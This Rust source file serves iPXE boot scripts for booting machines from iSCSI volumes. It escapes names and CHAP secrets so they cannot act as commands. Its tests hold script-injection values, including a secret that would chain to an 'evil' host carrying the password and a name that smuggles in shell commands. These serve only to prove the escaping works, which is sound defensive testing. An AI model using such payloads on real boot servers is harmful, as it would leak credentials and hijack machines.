//! `/boot/{mac or uuid}.ipxe`: the script by which a machine boots its profile's volume.
//!
//! iPXE reads a script word by word and expands `${…}`, so nothing gets into one that is not plain: secrets that are not
//! are written in hexadecimal (`set password:hexraw …`), which it takes for any setting.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;

use api::{Code, Refusal};
use axum::extract::{Path, State};
use axum::http::{StatusCode, header};
use axum::response::{IntoResponse, Response};
use axum::routing::get as get_route;
use axum::{Extension, Router};
use uuid::Uuid;

use super::actor::Actor;
use super::answer::Answer;
use super::auth::Caller;
use super::endpoint::{Access, Endpoint, get};
use super::state::Control;
use crate::catalog::profiles::{Chap, ChapLevel};
use crate::catalog::{self, Tx, hardware};
use crate::lifecycle::access::{self, Export};

const PATH: &str = "/boot/{machine}";
/// LUN of every OS volume.
const LUN: u64 = 0;
/// Portals that a script names: iPXE tries them all.
const PORTALS_MAX: usize = 8;
/// Longest name that is repeated to a machine.
const SHOWN_CHARS_MAX: usize = 64;

pub(super) fn endpoints() -> Vec<Endpoint> {
    let sentence = "The iPXE script that boots a server's volume, by MAC address or UUID and .ipxe; CHAP secrets are in it \
                    for those who may change profiles";
    vec![get(PATH, Access::View, sentence, of_api).answers_media("text/plain")]
}

/// All that the boot listener serves.
pub fn boot_router(control: Arc<Control>) -> Router {
    Router::new()
        .route(PATH, get_route(of_listener))
        .fallback(|| async { (StatusCode::NOT_FOUND, "nothing but /boot/MAC.ipxe is served here\n") })
        .with_state(control)
}

async fn of_listener(
    State(control): State<Arc<Control>>,
    Extension(caller): Extension<Caller>,
    Path(machine): Path<String>,
) -> Response {
    let script = match control.script(&machine, caller.address(), true).await {
        Ok(script) => script,
        Err(refusal) if refusal.error_code == Code::NotFound => {
            return (StatusCode::NOT_FOUND, "write it as /boot/52:54:00:12:34:56.ipxe\n").into_response();
        }
        // A machine cannot be helped by a status; it says what is wrong, and boots what else it has.
        Err(refusal) => next_device(&format!("the boot script cannot be made: {}", refusal.message)),
    };
    as_script(script)
}

async fn of_api(
    State(control): State<Arc<Control>>,
    Extension(actor): Extension<Actor>,
    Path(machine): Path<String>,
) -> Answer {
    let secrets = actor.may(Access::EditProfiles);
    Ok(as_script(control.script(&machine, None, secrets).await?))
}

fn as_script(script: String) -> Response {
    let headers = [(header::CONTENT_TYPE, "text/plain; charset=utf-8"), (header::CACHE_CONTROL, "no-store")];
    (headers, script).into_response()
}

/// How a machine says who it is.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Machine {
    Mac(String),
    Uuid(Uuid),
}

impl Machine {
    fn parse(file: &str) -> Option<Self> {
        let name = file.strip_suffix(".ipxe")?;
        let mac = hardware::parse_mac(name).map(Self::Mac);
        mac.or_else(|| Uuid::try_parse(name).ok().map(Self::Uuid))
    }
}

/// What is known of a machine.
#[derive(Debug)]
enum Found {
    NoServer,
    NoProfile { server: String },
    NoVolume { profile: String },
    Volume { server: String, profile: String, export: Export },
}

fn find(tx: &Tx<'_>, machine: &Machine) -> catalog::Result<Found> {
    let server = match machine {
        Machine::Mac(mac) => hardware::by_mac(tx, mac)?,
        Machine::Uuid(uuid) => hardware::by_uuid(tx, *uuid)?,
    };
    let Some(server) = server else { return Ok(Found::NoServer) };
    let (id, server) = (server.envelope.id, server.envelope.name);
    let Some((id, profile)) = hardware::profile_of(tx, id)? else { return Ok(Found::NoProfile { server }) };
    Ok(match access::of_profile(tx, id)? {
        Some(export) => Found::Volume { server, profile, export },
        None => Found::NoVolume { profile },
    })
}

impl Control {
    async fn script(&self, file: &str, from: Option<IpAddr>, secrets: bool) -> Result<String, Refusal> {
        let Some(machine) = Machine::parse(file) else {
            let message = format!("{:?} names no machine", plain(file));
            return Err(Refusal::new(Code::NotFound, message).action(
                "write it as /boot/52:54:00:12:34:56.ipxe, or with the UUID of the machine's firmware",
            ));
        };
        let found = self.read(move |tx| find(tx, &machine)).await?;
        let export = match &found {
            Found::NoServer => return Ok(next_device(&format!("no server is known as {}", plain(file)))),
            Found::NoProfile { server } => {
                return Ok(next_device(&format!("no profile is assigned to server {}", plain(server))));
            }
            Found::NoVolume { profile } => {
                return Ok(next_device(&format!("profile {} has no OS volume", plain(profile))));
            }
            Found::Volume { export, .. } => export,
        };
        let volume = export.volume;
        let info = self.blocking(move |store| store.volume_info(volume)).await?;
        let info = info.map_err(|error| super::refusals::of_store(&error))?;
        let target = self.exports.target_name(volume, &info.name);
        Ok(script(&found, &target, &portals(self.exports.portals(), from), secrets))
    }
}

/// The portals that a machine can reach, as far as that can be told: loopback is for this machine alone.
fn portals(all: Vec<SocketAddr>, from: Option<IpAddr>) -> Vec<SocketAddr> {
    let is_near = from.is_none_or(|from| from.to_canonical().is_loopback());
    let reached = |portal: &SocketAddr| is_near || !portal.ip().to_canonical().is_loopback();
    let far: Vec<_> = all.iter().copied().filter(reached).take(PORTALS_MAX).collect();
    if far.is_empty() { all.into_iter().take(PORTALS_MAX).collect() } else { far }
}

/// The script of a machine that has a volume.
fn script(found: &Found, target: &str, portals: &[SocketAddr], secrets: bool) -> String {
    let Found::Volume { server, profile, export } = found else { return String::new() };
    if !is_plain(target) || !is_plain(&export.initiator) {
        return next_device("the iSCSI names of this server cannot be told to it");
    }
    let uris: Vec<String> = portals.iter().map(|portal| uri(portal, target)).collect();
    let chap = export.chap.as_ref().map(|chap| credentials(chap, secrets)).unwrap_or_default();
    format!(
        "#!ipxe\necho osvold: server {}, profile {}\nset initiator-iqn {}\n{chap}\
         # The disk stays known when nothing can be booted from it yet: an installer that comes next finds it.\n\
         sanboot --keep {} || echo osvold: the OS volume could not be booted\nexit 1\n",
        plain(server),
        plain(profile),
        export.initiator,
        uris.join(" "),
    )
}

/// RFC 4173 §5: `iscsi:server:protocol:port:lun:target`.
fn uri(portal: &SocketAddr, target: &str) -> String {
    let address = match portal.ip() {
        IpAddr::V4(address) => address.to_string(),
        IpAddr::V6(address) => format!("[{address}]"),
    };
    format!("iscsi:{address}::{}:{LUN:x}:{target}", portal.port())
}

fn credentials(chap: &Chap, secrets: bool) -> String {
    if !secrets {
        return "# CHAP is set; its secrets are for those who may change profiles\n".to_owned();
    }
    let mut lines = set("username", &chap.chap_name) + &set("password", &chap.chap_secret);
    if let (ChapLevel::MutualChap, Some(name), Some(secret)) =
        (chap.chap_level, &chap.mutual_chap_name, &chap.mutual_chap_secret)
    {
        lines += &(set("reverse-username", name) + &set("reverse-password", secret));
    }
    lines
}

fn set(setting: &str, value: &str) -> String {
    if is_plain(value) {
        return format!("set {setting} {value}\n");
    }
    let hex: String = value.bytes().map(|byte| format!("{byte:02x}")).collect();
    format!("set {setting}:hexraw {hex}\n")
}

/// Says what is wrong and lets the firmware go on to its next boot device.
fn next_device(why: &str) -> String {
    format!("#!ipxe\necho osvold: {}\nexit 1\n", plain(why))
}

/// Words that iPXE takes as they are.
fn is_plain(text: &str) -> bool {
    let allowed =
        |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | ':' | '@' | '+' | '=' | '/');
    // A word that begins with a dash is an option.
    text.starts_with(|c: char| c.is_ascii_alphanumeric()) && text.chars().all(allowed)
}

/// A text that people are shown: whatever could mean something to iPXE is a question mark.
fn plain(text: &str) -> String {
    let allowed =
        |c: char| c.is_ascii_alphanumeric() || matches!(c, ' ' | '.' | '_' | '-' | ':' | ',' | '(' | ')');
    text.chars().take(SHOWN_CHARS_MAX * 2).map(|c| if allowed(c) { c } else { '?' }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(name: &str, chap: Option<Chap>) -> Found {
        let export = Export {
            volume: cow::VolumeId([7; 16]),
            initiator: "iqn.2015-02.com.hpe:oneview-abc".into(),
            chap,
        };
        Found::Volume { server: name.into(), profile: name.into(), export }
    }

    fn chap(secret: &str) -> Chap {
        Chap {
            chap_level: ChapLevel::MutualChap,
            chap_name: "web01".into(),
            chap_secret: secret.into(),
            mutual_chap_name: Some("osvol".into()),
            mutual_chap_secret: Some("other-secret-x".into()),
        }
    }

    fn at(text: &str) -> SocketAddr {
        text.parse().unwrap()
    }

    const TARGET: &str = "iqn.2026-01.io.osvol:osvolume-1-07";

    #[test]
    fn a_machine_says_who_it_is_by_address_or_uuid() {
        let mac = Some(Machine::Mac("52:54:00:12:34:5F".into()));
        let parsed = |file: &str| match Machine::parse(file) {
            Some(Machine::Mac(mac)) => Some(Machine::Mac(mac.to_uppercase())),
            other => other,
        };
        for file in ["52:54:00:12:34:5f.ipxe", "52-54-00-12-34-5F.ipxe", "52540012345f.ipxe"] {
            assert_eq!(parsed(file), mac, "{file}");
        }
        let uuid = "936da01f-9abd-4d9d-80c7-02af85c822a8";
        assert_eq!(Machine::parse(&format!("{uuid}.ipxe")), Some(Machine::Uuid(uuid.parse().unwrap())));
        for file in ["", ".ipxe", "52:54:00:12:34:5f", "web01.ipxe", "../../x.ipxe"] {
            assert_eq!(Machine::parse(file), None, "{file}");
        }
    }

    #[test]
    fn the_script_boots_the_volume_over_every_portal() {
        let portals = [at("10.0.0.1:3260"), at("[fd00::1]:3261")];
        let script = script(&found("bay 3", None), TARGET, &portals, true);
        assert!(script.starts_with("#!ipxe\n"), "{script}");
        assert!(script.contains("\nset initiator-iqn iqn.2015-02.com.hpe:oneview-abc\n"), "{script}");
        let boot =
            format!("\nsanboot --keep iscsi:10.0.0.1::3260:0:{TARGET} iscsi:[fd00::1]::3261:0:{TARGET} ||");
        assert!(script.contains(&boot), "{script}");
        assert!(!script.contains("password"), "{script}");
        assert!(script.ends_with("\nexit 1\n"), "{script}");
    }

    #[test]
    fn secrets_are_there_for_the_machine_and_cannot_be_commands() {
        let portals = [at("10.0.0.1:3260")];
        let of = |secret: &str, shown| script(&found("a", Some(chap(secret))), TARGET, &portals, shown);
        let script = of("plain-secret-12", true);
        assert!(script.contains("\nset username web01\nset password plain-secret-12\n"), "{script}");
        assert!(
            script.contains("\nset reverse-username osvol\nset reverse-password other-secret-x\n"),
            "{script}"
        );
        let evil = of("x\nchain http://evil/${password} ||", true);
        assert!(!evil.contains("chain") && !evil.contains("${"), "{evil}");
        assert!(evil.contains("\nset password:hexraw 780a636861696e"), "{evil}");
        let hidden = of("plain-secret-12", false);
        assert!(!hidden.contains("secret-12") && !hidden.contains("other-secret"), "{hidden}");
    }

    #[test]
    fn names_cannot_be_commands() {
        let script =
            script(&found("x\nshell ${net0/mac} && chain", None), TARGET, &[at("10.0.0.1:3260")], true);
        assert_eq!(script.lines().count(), 6, "{script}");
        assert!(script.contains("server x?shell ??net0?mac? ?? chain,"), "{script}");
        assert_eq!(next_device("a\nb"), "#!ipxe\necho osvold: a?b\nexit 1\n");
        for word in ["", "-x", "a b", "a;b", "a\u{0}", "${x}", "#a"] {
            assert!(!is_plain(word), "{word:?}");
        }
    }

    #[test]
    fn loopback_is_told_to_this_machine_only() {
        let all = vec![at("127.0.0.1:3260"), at("10.0.0.1:3260")];
        assert_eq!(portals(all.clone(), Some([10, 0, 0, 9].into())), [at("10.0.0.1:3260")]);
        assert_eq!(portals(all.clone(), Some([127, 0, 0, 1].into())), all);
        assert_eq!(portals(all[..1].to_vec(), Some([10, 0, 0, 9].into())), all[..1]);
    }
}
